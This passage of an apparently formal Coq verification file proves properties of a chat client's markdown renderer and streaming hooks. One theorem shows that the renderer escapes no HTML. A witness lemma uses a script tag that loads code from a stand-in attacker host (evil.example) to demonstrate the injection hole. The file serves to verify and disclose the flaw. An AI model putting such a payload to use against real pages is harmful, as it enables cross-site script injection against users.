  open_match H. repeat split.
  - exact Hs.
  - rewrite Hu. discriminate.
  - right. right. exists 60, u. split; [exact Hu | reflexivity].
  - right. right. left. exact Hlast.
  - intros Hocc. apply occurs_app_r, occurs_app_l, Hocc.
Qed.

Lemma whole_line_respects w : tag_like w -> respects w whole_line.
Proof.
  intros Hw prev s m H. unfold whole_line in H.
  destruct (at_line_start prev) eqn:Hstart; [|discriminate].
  destruct (dot_star s) as [line r] eqn:Hline.
  destruct line as [|c line]; [discriminate|].
  pose proof (dot_star_border _ _ _ Hline []) as Hborder.
  apply dot_star_split in Hline as [Hs _].
  open_match H. repeat split.
  - exact Hs.
  - discriminate.
  - apply at_line_start_left in Hstart as [-> | Hc]; [left; reflexivity|].
    right. left. exact Hc.
  - exact Hborder.
  - destruct (startsWith (js "<") (c :: line)); intros Hocc; exact Hocc.
Qed.

Lemma tag_is_tag_like t : forallb inert t = true -> tag_like (tag t).
Proof.
  intros Ht. rewrite forallb_forall in Ht.
  assert (Hinert : forall c, c ∈ t -> opens c = false /\ closes c = false).
  { intros c Hc. apply list_elem_of_In, Ht in Hc. unfold inert in Hc.
    apply andb_true_iff in Hc as [Ho Hc].
    apply negb_true_iff in Ho, Hc. auto. }
  exists (t ++ [62]). split; [reflexivity|]. split.
  - apply Forall_app. split; [|repeat constructor].
    apply Forall_forall. intros c Hc. apply Hinert, Hc.
  - unfold tag. rewrite app_comm_cons, List.removelast_last.
    constructor; [reflexivity|].
    apply Forall_forall. intros c Hc. apply Hinert, Hc.
Qed.

Lemma renderMarkdown_keeps w text :
  tag_like w -> occurs w text -> occurs w (renderMarkdown text).
Proof.
  intros Hw Hocc. unfold renderMarkdown.
  repeat first
    [ apply replace_keeps; [exact Hw | | ]
    | exact Hocc ];
    first
      [ apply delimited_respects;
          [exact Hw | by_computation | eexists; reflexivity
          | first [exists [42]; reflexivity | exists []; reflexivity]]
      | apply line_with_prefix_respects; [exact Hw | by_computation]
      | apply numbered_item_respects, Hw
      | apply rule_respects, Hw
      | apply blank_line_respects, Hw
      | apply item_block_respects, Hw
      | apply whole_line_respects, Hw ].
Qed.

End Tags.

(** C10, amended. The renderer escapes nothing: every tag of the input
    whose inside holds no [<], no [>], no [*] and no line terminator is in
    the returned string as it was written, and that string is what the
    expanded message injects as HTML. *)
Theorem renderMarkdown_keeps_simple_tags (text t : jsstring) :
  forallb Markdown.inert t = true ->
  Markdown.occurs (Markdown.tag t) text ->
  Markdown.occurs (Markdown.tag t) (Markdown.renderMarkdown text)
  /\ Markdown.injected_html true text = Some (Markdown.renderMarkdown text).
Proof.
  intros Ht Hocc. split; [|reflexivity].
  apply renderMarkdown_keeps; [|exact Hocc].
  apply tag_is_tag_like, Ht.
Qed.

Lemma renderMarkdown_keeps_simple_tags_witness :
  Markdown.occurs (js "<script src=//evil.example/x.js>")
    (Markdown.renderMarkdown
       (js "# Plan" ++ [10]
        ++ js "- **cut** burn <script src=//evil.example/x.js></script>")).
Proof.
  apply (renderMarkdown_keeps_simple_tags _ (js "script src=//evil.example/x.js")).
  - vm_compute. reflexivity.
  - exists (js "# Plan" ++ [10] ++ js "- **cut** burn "), (js "</script>").
    vm_compute. reflexivity.
Defined.

(** C10 as stated fails: markdown inside a tag is rewritten like any other
    text, so a tag that carries emphasis marks does not come out as it went
    in. *)
Lemma emphasis_inside_a_tag_is_rewritten :
  let w := js "<i title='*x*'>" in
  Markdown.occurs w (w ++ js "hello</i>")
  /\ Markdown.renderMarkdown (w ++ js "hello</i>")
     = js "<i title='<em>x</em>'>hello</i>"
  /\ ~ Markdown.occurs w (Markdown.renderMarkdown (w ++ js "hello</i>")).
Proof.
  intros w. split; [|split].
  - exists [], (js "hello</i>"). reflexivity.
  - vm_compute. reflexivity.
  - intros H. apply includes_occurs in H. vm_compute in H. discriminate.
Qed.

(** * Further properties of the client *)

(** ** What a run of the token-based hook leaves behind *)

Lemma token_run_app st es es' :
  TokenHook.run st (es ++ es') = TokenHook.run (TokenHook.run st es) es'.
Proof. unfold TokenHook.run. apply fold_left_app. Qed.

Lemma token_run_messages es : forall st,
  TokenHook.messages (TokenHook.run st es)
  = TokenHook.messages st ++ omap Boardroom.added es.
Proof.
  induction es as [|e es IH]; intros st; simpl.
  - rewrite app_nil_r. reflexivity.
  - unfold TokenHook.run in *. simpl. rewrite IH.
    destruct e; simpl; try reflexivity.
    rewrite <- app_assoc. reflexivity.
Qed.


Lemma token_run_streaming es : forall st,
  TokenHook.isStreaming
    (TokenHook.run st (es ++ [TokenHook.SetIsStreaming false])) = false.
Proof. intros st. rewrite token_run_app. reflexivity. Qed.

Lemma forallb_flat_map {A B} (p : B -> bool) (f : A -> list B) l :
  (forall x, forallb p (f x) = true) -> forallb p (flat_map f l) = true.
Proof.
  intros H. induction l as [|x l IH]; [reflexivity|].
  simpl. rewrite forallb_app, H, IH. reflexivity.
Qed.

Lemma omap_flat_map {A B C} (g : B -> option C) (f : A -> list B) l :
  omap g (flat_map f l) = flat_map (fun x => omap g (f x)) l.
Proof.
  induction l as [|x l IH]; [reflexivity|].
  simpl. rewrite omap_app, IH. reflexivity.
Qed.

Lemma token_dispatch_quiet e :
  forallb adds_no_user (TokenHook.dispatch e) = true
  /\ forallb keeps_session (TokenHook.dispatch e) = true
  /\ omap Boardroom.seen (TokenHook.dispatch e) = []
  /\ omap requested (TokenHook.dispatch e) = [].
Proof.
  unfold TokenHook.dispatch.
  destruct (has_type "orchestration" e); [repeat split|].
  destruct (has_type "routing" e); [repeat split|].
  destruct (has_type "agent_response" e); [repeat split|].
  destruct (has_type "synthesis" e); repeat split.
Qed.

Lemma token_line_quiet parse line :
  forallb adds_no_user (TokenHook.process_line parse line) = true
  /\ forallb keeps_session (TokenHook.process_line parse line) = true
  /\ omap Boardroom.seen (TokenHook.process_line parse line)
     = option_list (data_event parse line)
  /\ omap requested (TokenHook.process_line parse line) = [].
Proof.
  unfold TokenHook.process_line, data_event.
  destruct (startsWith _ line); [|repeat split].
  destruct (parse _) as [e|]; [|repeat split].
  destruct (token_dispatch_quiet e) as (H1 & H2 & H3 & H4).
  unfold TokenHook.handle_event. cbn -[TokenHook.dispatch].
  rewrite H1, H2, H3, H4. repeat split.
Qed.

Lemma token_stream_quiet parse chunks :
  forallb adds_no_user (read_loop (TokenHook.process_line parse) [] chunks) = true
  /\ forallb keeps_session (read_loop (TokenHook.process_line parse) [] chunks)
     = true
  /\ omap requested (read_loop (TokenHook.process_line parse) [] chunks) = [].
Proof.
  rewrite read_loop_whole. split; [|split].
  - apply forallb_flat_map. intros line. apply token_line_quiet.
  - apply forallb_flat_map. intros line. apply token_line_quiet.
  - rewrite omap_flat_map. induction (complete_lines (concat chunks)) as [|l ls IH];
      [reflexivity|].
    simpl. rewrite IH.
    destruct (token_line_quiet parse l) as (_ & _ & _ & ->). reflexivity.
Qed.

Lemma token_sendMessage_accepted parse token st text net :
  accepted token st text = true ->
  TokenHook.sendMessage parse token st text net
  = [TokenHook.AddMessage (TokenHook.plain TokenHook.user (Some text));
     TokenHook.SetIsStreaming true;
     TokenHook.Fetch
       {| TokenHook.req_bearer := default [] token;
          TokenHook.req_message := text;
          TokenHook.req_session_id := TokenHook.sessionId st |}]
    ++ token_reply parse net ++ [TokenHook.SetIsStreaming false].
Proof.
  unfold accepted, TokenHook.sendMessage. intros H.
  apply andb_true_iff in H as [H Htoken].
  apply andb_true_iff in H as [Htext Hidle].
  apply negb_true_iff in Hidle. rewrite Htext, Hidle, Htoken. simpl.
  destruct net as [|res]; reflexivity.
Qed.

Lemma token_sendMessage_refused parse token st text net :
  accepted token st text = false ->
  TokenHook.sendMessage parse token st text net = [].
Proof.
  unfold accepted, TokenHook.sendMessage. intros H.
  destruct (truthy (trim text)), (TokenHook.isStreaming st),
    (truthy_opt token); simpl in *; congruence.
Qed.

Lemma token_reply_quiet parse net :
  forallb adds_no_user (token_reply parse net) = true
  /\ omap requested (token_reply parse net) = [].
Proof.
  unfold token_reply. destruct net as [|res]; [split; reflexivity|].
  assert (Hhead : forall es : list TokenHook.Effect,
             forallb adds_no_user es = true -> omap requested es = [] ->
             forallb adds_no_user
               (match res_session_header res with
                | Some s => if truthy s then [TokenHook.SetSessionId s] else []
                | None => []
                end ++ es) = true
             /\ omap requested
                  (match res_session_header res with
                   | Some s => if truthy s then [TokenHook.SetSessionId s] else []
                   | None => []
                   end ++ es) = []).
  { intros es H1 H2. destruct (res_session_header res) as [s|];
      [destruct (truthy s)|]; simpl; auto. }
  apply Hhead.
  - destruct (res_ok res); [|reflexivity].
    destruct (res_body res) as [b|]; [|reflexivity].
    rewrite forallb_app. destruct (token_stream_quiet parse (body_chunks b)) as (-> & _).
    destruct (body_read_rejects b); reflexivity.
  - destruct (res_ok res); [|reflexivity].
    destruct (res_body res) as [b|]; [|reflexivity].
    rewrite omap_app. destruct (token_stream_quiet parse (body_chunks b)) as (_ & _ & ->).
    destruct (body_read_rejects b); reflexivity.
Qed.

Lemma messageCount_app ms ms' :
  Boardroom.messageCount (ms ++ ms')
  = (Boardroom.messageCount ms + Boardroom.messageCount ms')%nat.
Proof.
  unfold Boardroom.messageCount. rewrite List.filter_app, length_app.
  reflexivity.
Qed.

Lemma messageCount_quiet es :
  forallb adds_no_user es = true ->
  Boardroom.messageCount (omap Boardroom.added es) = 0%nat.
Proof.
  induction es as [|e es IH]; intros H; [reflexivity|].
  simpl in H. apply andb_true_iff in H as [He Hes].
  destruct e as [m| | | |]; simpl; try (apply IH, Hes).
  unfold Boardroom.messageCount in *. simpl in *.
  apply negb_true_iff in He. rewrite He. apply IH, Hes.
Qed.

Lemma token_line_added parse line :
  omap Boardroom.added (TokenHook.process_line parse line)
  = match data_event parse line with
    | Some e => omap Boardroom.added (TokenHook.dispatch e)
    | None => []
    end.
Proof.
  unfold TokenHook.process_line, data_event.
  destruct (startsWith _ line); [|reflexivity].
  destruct (parse _) as [e|]; reflexivity.
Qed.

Lemma token_stream_added parse chunks :
  omap Boardroom.added (read_loop (TokenHook.process_line parse) [] chunks)
  = flat_map (fun e => omap Boardroom.added (TokenHook.dispatch e))
      (omap (data_event parse) (complete_lines (concat chunks))).
Proof.
  rewrite read_loop_whole, omap_flat_map.
  induction (complete_lines (concat chunks)) as [|line lines IH];
    [reflexivity|].
  cbn [flat_map]. rewrite IH, token_line_added. cbn.
  destruct (data_event parse line); reflexivity.
Qed.

Lemma token_reply_added parse net :
  omap Boardroom.added (token_reply parse net)
  = token_delivered parse net
    ++ option_list
         (TokenHook.plain TokenHook.assistant <$> (Some <$> token_report net)).
Proof.
  unfold token_reply, token_delivered, token_report.
  destruct net as [|res]; [reflexivity|].
  rewrite omap_app.
  assert (Hhdr : omap Boardroom.added
                   (match res_session_header res with
                    | Some s => if truthy s then [TokenHook.SetSessionId s] else []
                    | None => []
                    end) = []).
  { destruct (res_session_header res) as [s|];
      [destruct (truthy s)|]; reflexivity. }
  rewrite Hhdr. cbn [app].
  destruct (res_ok res); [|reflexivity].
  destruct (res_body res) as [b|]; [|reflexivity].
  rewrite omap_app, token_stream_added.
  destruct (body_read_rejects b); reflexivity.
Qed.

(** The whole of what a call of [sendMessage] leaves in the list. *)
Lemma token_exchange parse token st text net :
  TokenHook.messages
    (TokenHook.run st (TokenHook.sendMessage parse token st text net))
  = TokenHook.messages st
    ++ (if accepted token st text
        then [TokenHook.plain TokenHook.user (Some text)]
             ++ token_delivered parse net
             ++ option_list
                  (TokenHook.plain TokenHook.assistant
                     <$> (Some <$> token_report net))
        else []).
Proof.
  rewrite token_run_messages. f_equal.
  destruct (accepted token st text) eqn:Hacc.
  - rewrite token_sendMessage_accepted by exact Hacc.
    rewrite !omap_app, token_reply_added. cbn. rewrite app_nil_r.
    reflexivity.
  - rewrite token_sendMessage_refused by exact Hacc. reflexivity.
Qed.



(** X2. The count of exchanges the boardroom shows grows by exactly one
    with every [sendMessage] that gets past the guard and not at all
    otherwise: nothing the server streams, and no error, adds a user
    message. *)
Theorem messageCount_counts_accepted_sends
    (parse : jsstring -> option SSEEvent) (token : option jsstring)
    (st : TokenHook.HookState) (text : jsstring) (net : FetchResult) :
  Boardroom.messageCount
    (TokenHook.messages
       (TokenHook.run st (TokenHook.sendMessage parse token st text net)))
  = (Boardroom.messageCount (TokenHook.messages st)
     + if accepted token st text then 1 else 0)%nat.
Proof.
  rewrite token_run_messages, messageCount_app. f_equal.
  destruct (accepted token st text) eqn:Hacc.
  - rewrite token_sendMessage_accepted by exact Hacc.
    rewrite !omap_app, !messageCount_app.
    rewrite (messageCount_quiet (token_reply parse net))
      by apply token_reply_quiet.
    reflexivity.
  - rewrite token_sendMessage_refused by exact Hacc. reflexivity.
Qed.

(** X3. A request of the token-based hook that fails in any way (a
    rejected [fetch], a status that is not [ok], a missing body, a read
    that rejects) is reported once: the user's message is followed by the
    messages of the events delivered before the failure and then by one
    assistant message with the fixed text of that failure, and by nothing
    else.  A rejected [fetch] or read is reported as a connection error; a
    response that is not [ok] or has no body is reported as an error
    connecting, and none of its body is shown. *)
Theorem failed_request_is_reported
    (parse : jsstring -> option SSEEvent) (token : option jsstring)
    (st : TokenHook.HookState) (text : jsstring) (net : FetchResult) :
  accepted token st text = true ->
  failed net = true ->
  exists reason,
    token_report net = Some reason
    /\ TokenHook.messages
         (TokenHook.run st (TokenHook.sendMessage parse token st text net))
       = TokenHook.messages st
         ++ [TokenHook.plain TokenHook.user (Some text)]
         ++ token_delivered parse net
         ++ [TokenHook.plain TokenHook.assistant (Some reason)]
    /\ (reason = TokenHook.connection_error
        \/ (reason = TokenHook.error_connecting
            /\ token_delivered parse net = []))
    /\ Boardroom.messageCount (token_delivered parse net) = 0%nat.
Proof.
  intros Hacc Hfail.
  assert (Hquiet : Boardroom.messageCount (token_delivered parse net) = 0%nat).
  { unfold token_delivered. destruct net as [|res]; [reflexivity|].
    destruct (res_ok res); [|reflexivity].
    destruct (res_body res) as [b|]; [|reflexivity].
    rewrite <- token_stream_added.
    apply messageCount_quiet, token_stream_quiet. }
  assert (Hreason : exists reason,
             token_report net = Some reason
             /\ (reason = TokenHook.connection_error
                 \/ (reason = TokenHook.error_connecting
                     /\ token_delivered parse net = []))).
  { unfold failed in Hfail. unfold token_report, token_delivered.
    destruct net as [|res]; [eexists; split; [reflexivity | left; reflexivity]|].
    destruct (res_ok res);
      [|eexists; split; [reflexivity | right; split; reflexivity]].
    destruct (res_body res) as [b|];
      [|eexists; split; [reflexivity | right; split; reflexivity]].
    rewrite Hfail. eexists. split; [reflexivity | left; reflexivity]. }
  destruct Hreason as (reason & Hreport & Hwhich).
  exists reason. split; [exact Hreport|]. split; [|split; [exact Hwhich | exact Hquiet]].
  rewrite token_exchange, Hacc, Hreport. reflexivity.
Qed.

Lemma failed_request_is_reported_witness :
  let idle := {| TokenHook.messages := []; TokenHook.isStreaming := false;
                 TokenHook.sessionId := None |} in
  let net := FetchResolves
               {| res_ok := true; res_session_header := None;
                  res_body :=
                    Some {| body_chunks := [js "data: {routing}" ++ [10]];
                            body_read_rejects := true |} |} in
  accepted (Some (js "jwt")) idle (js "should we raise?") = true
  /\ failed net = true
  /\ exists reason,
       token_report net = Some reason
       /\ TokenHook.messages
            (TokenHook.run idle
               (TokenHook.sendMessage toy_parse (Some (js "jwt")) idle
                  (js "should we raise?") net))
          = TokenHook.messages idle
            ++ [TokenHook.plain TokenHook.user (Some (js "should we raise?"))]
            ++ token_delivered toy_parse net
            ++ [TokenHook.plain TokenHook.assistant (Some reason)]
       /\ (reason = TokenHook.connection_error
           \/ (reason = TokenHook.error_connecting
               /\ token_delivered toy_parse net = []))
       /\ Boardroom.messageCount (token_delivered toy_parse net) = 0%nat.
Proof.
  intros idle net. split; [reflexivity|]. split; [reflexivity|].
  apply (failed_request_is_reported toy_parse (Some (js "jwt")) idle);
    reflexivity.
Defined.

(** ** Streams that end without a newline *)

Lemma read_loop_tail {E} (body : jsstring -> list E) chunks tail :
  newline ∉ tail ->
  read_loop body [] (chunks ++ [tail]) = read_loop body [] chunks.
Proof.
  intros Htail. rewrite !read_loop_whole.
  rewrite concat_app. simpl. rewrite app_nil_r.
  rewrite complete_lines_app.
  assert (Hnone : complete_lines (pending (concat chunks) ++ tail) = []).
  { apply complete_lines_no_newline. intros Hin.
    apply elem_of_app in Hin as [Hin | Hin]; [|exact (Htail Hin)].
    exact (pending_no_newline _ Hin). }
  rewrite Hnone, app_nil_r. reflexivity.
Qed.

(** X4. Text that follows the last newline of the stream is never
    processed: a stream with such a tail has the same effect on either hook
    as the stream without it. *)
Theorem unterminated_last_line_is_dropped
    (parse : jsstring -> option SSEEvent) (text : jsstring)
    (chunks : list jsstring) (tail : jsstring) :
  newline ∉ tail ->
  (forall token st,
      TokenHook.sendMessage parse token st text (streamed (chunks ++ [tail]))
      = TokenHook.sendMessage parse token st text (streamed chunks))
  /\ (forall sessionId st,
        SessionHook.sendMessage parse sessionId st text
          (streamed (chunks ++ [tail]))
        = SessionHook.sendMessage parse sessionId st text (streamed chunks)).
Proof.
  intros Htail. split.
  - intros token st. unfold TokenHook.sendMessage, streamed. simpl.
    rewrite read_loop_tail by exact Htail. reflexivity.
  - intros sessionId st. unfold SessionHook.sendMessage, streamed. simpl.
    rewrite read_loop_tail by exact Htail. reflexivity.
Qed.

Lemma unterminated_last_line_is_dropped_witness :
  SessionHook.sendMessage toy_parse (js "s1")
    {| SessionHook.messages := []; SessionHook.isStreaming := false;
       SessionHook.abortRef := false |} (js "hello")
    (streamed ([js "data: {routing}" ++ [10]] ++ [js "data: {routing}"]))
  = SessionHook.sendMessage toy_parse (js "s1")
      {| SessionHook.messages := []; SessionHook.isStreaming := false;
         SessionHook.abortRef := false |} (js "hello")
      (streamed [js "data: {routing}" ++ [10]]).
Proof.
  apply (proj2 (unterminated_last_line_is_dropped toy_parse (js "hello")
                  [js "data: {routing}" ++ [10]] (js "data: {routing}")
                  ltac:(by_computation))).
Defined.

(** ** What the callback sees *)

Lemma session_dispatch_unseen e :
  omap session_seen (SessionHook.dispatch e) = []
  /\ forallb keyed (SessionHook.dispatch e) = true.
Proof.
  unfold SessionHook.dispatch.
  destruct (has_type "routing" e && bool_decide (is_Some (ev_agents e)));
    [split; reflexivity|].
  destruct (has_type "agent_response" e) eqn:Hty; simpl.
  - destruct (ev_agent e) as [k|] eqn:Hk; simpl.
    + destruct (truthy k); simpl.
      * split; [reflexivity|]. rewrite Hk.
        rewrite bool_decide_eq_true_2 by eauto. reflexivity.
      * destruct (has_type "synthesis" e); [split; reflexivity|].
        destruct (has_type "onboarding_question" e || has_type "onboarding_complete" e);
          split; reflexivity.
    + destruct (has_type "synthesis" e); [split; reflexivity|].
      destruct (has_type "onboarding_question" e || has_type "onboarding_complete" e);
        split; reflexivity.
  - destruct (has_type "synthesis" e); [split; reflexivity|].
    destruct (has_type "onboarding_question" e || has_type "onboarding_complete" e);
      split; reflexivity.
Qed.

Lemma session_line_seen parse line :
  omap session_seen (SessionHook.process_line parse line)
  = option_list (data_event parse line)
  /\ forallb keyed (SessionHook.process_line parse line) = true.
Proof.
  unfold SessionHook.process_line, data_event.
  destruct (startsWith _ line); [|split; reflexivity].
  destruct (parse _) as [e|]; [|split; reflexivity].
  destruct (session_dispatch_unseen e) as [H1 H2].
  unfold SessionHook.handle_event. cbn -[SessionHook.dispatch].
  rewrite H1, H2. split; reflexivity.
Qed.

Lemma flat_map_option_list {A B} (f : A -> option B) l :
  flat_map (fun x => option_list (f x)) l = omap f l.
Proof.
  induction l as [|x l IH]; [reflexivity|].
  simpl. rewrite IH. destruct (f x); reflexivity.
Qed.

(** X5. The [onEvent] callback is called once for every complete
    [data: ] line whose payload [JSON.parse] returns a value for, with that
    value, in the order of the lines, and for nothing else, in both hooks;
    how the stream is cut into chunks makes no difference.  The payload
    [null] is such a value: it is handed over before reading its
    [type] throws. *)
Theorem onEvent_sees_every_event
    (parse : jsstring -> option SSEEvent) (chunks : list jsstring) :
  omap Boardroom.seen (read_loop (TokenHook.process_line parse) [] chunks)
  = omap (data_event parse) (complete_lines (concat chunks))
  /\ omap session_seen (read_loop (SessionHook.process_line parse) [] chunks)
     = omap (data_event parse) (complete_lines (concat chunks)).
Proof.
  rewrite !read_loop_whole, !omap_flat_map. split.
  - rewrite <- flat_map_option_list. apply flat_map_ext. intros line.
    apply token_line_quiet.
  - rewrite <- flat_map_option_list. apply flat_map_ext. intros line.
    apply session_line_seen.
Qed.

Lemma onEvent_sees_every_event_witness :
  let chunks := [js "data: nu"; js "ll" ++ [10] ++ js "data: {rou";
                 js "ting}" ++ [10] ++ js "data: {"] in
  omap (data_event null_parse) (complete_lines (concat chunks))
  = [no_members; bare_event "routing"]
  /\ omap Boardroom.seen
       (read_loop (TokenHook.process_line null_parse) [] chunks)
     = [no_members; bare_event "routing"]
  /\ omap session_seen
       (read_loop (SessionHook.process_line null_parse) [] chunks)
     = [no_members; bare_event "routing"].
Proof.
  intros chunks.
  assert (H : omap (data_event null_parse) (complete_lines (concat chunks))
              = [no_members; bare_event "routing"])
    by (vm_compute; reflexivity).
  split; [exact H|]. rewrite <- H.
  apply (onEvent_sees_every_event null_parse chunks).
Defined.

(** ** The session identifier the server hands out *)


Lemma token_sendMessage_requests parse token st text net :
  omap requested (TokenHook.sendMessage parse token st text net)
  = if accepted token st text
    then [{| TokenHook.req_bearer := default [] token;
             TokenHook.req_message := text;
             TokenHook.req_session_id := TokenHook.sessionId st |}]
    else [].
Proof.
  destruct (accepted token st text) eqn:Hacc.
  - rewrite token_sendMessage_accepted by exact Hacc.
    rewrite !omap_app.
    destruct (token_reply_quiet parse net) as [_ ->]. reflexivity.
  - rewrite token_sendMessage_refused by exact Hacc. reflexivity.
Qed.






(** ** Flags that are raised are lowered *)

Lemma session_run_app st es es' :
  SessionHook.run st (es ++ es') = SessionHook.run (SessionHook.run st es) es'.
Proof. unfold SessionHook.run. apply fold_left_app. Qed.

Lemma session_sendMessage_idle parse sessionId st text net :
  SessionHook.isStreaming st = false ->
  SessionHook.sendMessage parse sessionId st text net
  = (if truthy (trim text)
     then [SessionHook.AppendMessage (SessionHook.plain SessionHook.user text)]
     else [])
    ++ [SessionHook.SetIsStreaming true; SessionHook.SetAbortRef true;
        SessionHook.Fetch {| SessionHook.req_session_header := sessionId;
                             SessionHook.req_message := text |}]
    ++ session_reply parse net
    ++ [SessionHook.SetIsStreaming false; SessionHook.SetAbortRef false].
Proof.
  intros Hidle. unfold SessionHook.sendMessage, session_reply.
  rewrite Hidle. reflexivity.
Qed.

Lemma onboarding_run_app st es es' :
  Onboarding.run st (es ++ es') = Onboarding.run (Onboarding.run st es) es'.
Proof. unfold Onboarding.run. apply fold_left_app. Qed.

(** X7. Whatever the network does, a call that starts idle ends idle:
    [sendMessage] leaves [isStreaming] false in both hooks (and the abort
    reference cleared in the session-based one), and [submit] leaves
    [isAnimating] false. *)
Theorem busy_flags_are_lowered
    (parse : jsstring -> option SSEEvent) (text : jsstring)
    (net : FetchResult) :
  (forall token st,
      TokenHook.isStreaming st = false ->
      TokenHook.isStreaming
        (TokenHook.run st (TokenHook.sendMessage parse token st text net))
      = false)
  /\ (forall sessionId st,
        SessionHook.isStreaming st = false ->
        let st' := SessionHook.run st
                     (SessionHook.sendMessage parse sessionId st text net) in
        SessionHook.isStreaming st' = false /\ SessionHook.abortRef st' = false)
  /\ (forall sessionId st,
        Onboarding.isAnimating st = false ->
        Onboarding.isAnimating
          (Onboarding.run st (Onboarding.submit parse sessionId st text net))
        = false).
Proof.
  split; [|split].
  - intros token st Hidle. destruct (accepted token st text) eqn:Hacc.
    + rewrite token_sendMessage_accepted by exact Hacc.
      rewrite !app_assoc. apply token_run_streaming.
    + rewrite token_sendMessage_refused by exact Hacc. exact Hidle.
  - intros sessionId st Hidle st'. subst st'.
    rewrite session_sendMessage_idle by exact Hidle.
    rewrite !app_assoc, session_run_app. split; reflexivity.
  - intros sessionId st Hidle. unfold Onboarding.submit.
    destruct (Onboarding.currentQuestion st) as [q|]; [|exact Hidle].
    rewrite Hidle. rewrite !app_assoc, onboarding_run_app. reflexivity.
Qed.

Lemma busy_flags_are_lowered_witness :
  Onboarding.isAnimating
    (Onboarding.run (Onboarding.asking goals_question ∅)
       (Onboarding.submit toy_parse (js "s1")
          (Onboarding.asking goals_question ∅) (js "grow") FetchRejects))
  = false.
Proof.
  apply (proj2 (proj2 (busy_flags_are_lowered toy_parse (js "grow")
                         FetchRejects))).
  reflexivity.
Defined.

(** ** What agent responses can overwrite *)

Lemma findIndex_Some {A} (p : A -> bool) l : forall j,
  SessionHook.findIndex p l = Some j ->
  exists x, l !! j = Some x /\ p x = true.
Proof.
  induction l as [|y l IH]; intros j H; simpl in H; [discriminate|].
  destruct (p y) eqn:Hy.
  - injection H as <-. exists y. split; [reflexivity | exact Hy].
  - destruct (SessionHook.findIndex p l) as [k|]; [|discriminate].
    injection H as <-. apply (IH k eq_refl).
Qed.

Lemma settled_is_not_same_agent k m :
  settled m = true -> SessionHook.same_agent (Some k) m = false.
Proof.
  unfold settled, SessionHook.same_agent. intros H.
  apply orb_true_iff in H as [H | H].
  - apply bool_decide_eq_true in H. rewrite H.
    rewrite bool_decide_eq_false_2 by discriminate. reflexivity.
  - rewrite H. apply andb_false_r.
Qed.

Lemma session_apply_settled st e i m :
  keyed e = true ->
  SessionHook.messages st !! i = Some m -> settled m = true ->
  SessionHook.messages (SessionHook.apply st e) !! i = Some m
  /\ (length (SessionHook.messages st)
      <= length (SessionHook.messages (SessionHook.apply st e)))%nat.
Proof.
  intros Hkey Hi Hm. destruct e as [m'|m'| | | | |]; simpl;
    try (split; [exact Hi | lia]).
  - split; [apply lookup_app_l_Some, Hi | rewrite length_app; lia].
  - simpl in Hkey. apply bool_decide_eq_true in Hkey as [k Hk].
    unfold SessionHook.upsert. rewrite Hk.
    destruct (SessionHook.findIndex _ _) as [j|] eqn:Hfind.
    + apply findIndex_Some in Hfind as (x & Hj & Hx).
      rewrite length_insert. split; [|lia].
      rewrite list_lookup_insert_ne; [exact Hi|].
      intros ->. rewrite Hi in Hj. injection Hj as <-.
      rewrite settled_is_not_same_agent in Hx by exact Hm. discriminate.
    + split; [apply lookup_app_l_Some, Hi | rewrite length_app; lia].
Qed.

Lemma session_run_settled es : forall st i m,
  forallb keyed es = true ->
  SessionHook.messages st !! i = Some m -> settled m = true ->
  SessionHook.messages (SessionHook.run st es) !! i = Some m
  /\ (length (SessionHook.messages st)
      <= length (SessionHook.messages (SessionHook.run st es)))%nat.
Proof.
  induction es as [|e es IH]; intros st i m Hkeyed Hi Hm;
    [split; [exact Hi | reflexivity]|].
  simpl in Hkeyed. apply andb_true_iff in Hkeyed as [He Hes].
  destruct (session_apply_settled st e i m He Hi Hm) as [Hi' Hlen].
  destruct (IH (SessionHook.apply st e) i m Hes Hi' Hm) as [Hi'' Hlen'].
  unfold SessionHook.run in *. simpl. split; [exact Hi'' | lia].
Qed.

Lemma session_sendMessage_keyed parse sessionId st text net :
  forallb keyed (SessionHook.sendMessage parse sessionId st text net) = true.
Proof.
  unfold SessionHook.sendMessage.
  destruct (SessionHook.isStreaming st); [reflexivity|].
  rewrite !forallb_app. rewrite !andb_true_iff. repeat split.
  - destruct (truthy (trim text)); reflexivity.
  - destruct net as [|res]; [reflexivity|].
    destruct (res_body res) as [b|]; [|reflexivity].
    rewrite forallb_app, read_loop_whole. apply andb_true_iff. split.
    + apply forallb_flat_map. intros line. apply session_line_seen.
    + destruct (body_read_rejects b); reflexivity.
Qed.

(** X8. In the session-based hook a run changes no message but the
    answers of agents: every message without an agent key (the user's, the
    routing and the onboarding messages) and every synthesis stays at its
    place, unchanged, whatever is streamed. *)
Theorem settled_messages_stay
    (parse : jsstring -> option SSEEvent) (sessionId : jsstring)
    (st : SessionHook.HookState) (text : jsstring) (net : FetchResult)
    (i : nat) (m : SessionHook.ChatMessage) :
  SessionHook.messages st !! i = Some m ->
  settled m = true ->
  SessionHook.messages
    (SessionHook.run st (SessionHook.sendMessage parse sessionId st text net))
  !! i = Some m.
Proof.
  intros Hi Hm.
  apply (session_run_settled _ st i m (session_sendMessage_keyed _ _ _ _ _) Hi Hm).
Qed.

Lemma settled_messages_stay_witness :
  SessionHook.messages
    (SessionHook.run
       {| SessionHook.messages :=
            [SessionHook.plain SessionHook.user (js "should we raise?");
             SessionHook.agent_message (agent_event "CEO" "old")];
          SessionHook.isStreaming := false; SessionHook.abortRef := false |}
       (SessionHook.sendMessage toy_parse (js "s1")
          {| SessionHook.messages :=
               [SessionHook.plain SessionHook.user (js "should we raise?");
                SessionHook.agent_message (agent_event "CEO" "old")];
             SessionHook.isStreaming := false; SessionHook.abortRef := false |}
          (js "and when?") FetchRejects))
  !! 0%nat
  = Some (SessionHook.plain SessionHook.user (js "should we raise?")).
Proof.
  apply settled_messages_stay; reflexivity.
Defined.

(** ** The request and the completion of an onboarding step *)

Lemma onboarding_on_line_shape parse ctx line :
  let '(es, returned) := Onboarding.on_line parse ctx line in
  omap posted es = []
  /\ if returned then es = [Onboarding.OnComplete ctx]
     else omap completed es = [].
Proof.
  unfold Onboarding.on_line.
  destruct (startsWith _ line); [|split; reflexivity].
  destruct (parse _) as [e|]; [|split; reflexivity].
  destruct (has_type "onboarding_question" e), (ev_question e),
    (has_type "onboarding_complete" e); split; reflexivity.
Qed.

Lemma onboarding_for_lines_shape parse ctx lines :
  let '(es, returned) := Onboarding.for_lines parse ctx lines in
  omap posted es = []
  /\ if returned
     then exists pre, es = pre ++ [Onboarding.OnComplete ctx]
                      /\ omap completed pre = []
     else omap completed es = [].
Proof.
  induction lines as [|line lines IH]; simpl; [split; reflexivity|].
  pose proof (onboarding_on_line_shape parse ctx line) as H.
